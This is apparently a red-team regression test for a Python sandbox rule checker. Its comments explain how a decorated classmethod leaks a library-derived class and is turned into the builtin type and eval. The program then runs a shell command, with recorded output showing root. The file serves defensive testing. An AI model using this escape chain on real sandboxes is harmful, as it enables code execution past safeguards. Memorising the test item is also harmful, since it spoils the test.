# expect: reject unbound
# line: 35
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fifteenth red team (round 15a), family C: what a class body binds under a name through which the interpreter hands over a class (@classmethod, __init_subclass__, __set_name__, __get__) is not the def the rule judges: a decorator's result or a class statement (the red team's program, ok_06)
# Mechanism: rule unbound's received_libclass judges the first parameter of the def under 
# @classmethod as the class a library-derived class hands over, but @classmethod wraps whatever the 
# decorator below it returned: here deco(f) returns inner(k), so Q.grab() calls inner(Q) and the 
# program's function receives Q (a class deriving from collections.Counter) under a parameter the 
# rule never judges; box.append(k) then keeps it. box[0].copy(P) is Counter.copy(P) = 
# P.__class__(P): the builtin type. No dunder name is given to a builtin at run time.
# Goal reached: the builtin type by value, then eval (11b end gadget): runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD 7bb35ca
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

class P:
    pass

box = []

def deco(f):
    def inner(k):
        box.append(k)
        return 0
    return inner

class Q(collections.Counter):
    @classmethod
    @deco
    def grab(cls):
        return 0

Q.grab()
T = box[0].copy(P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
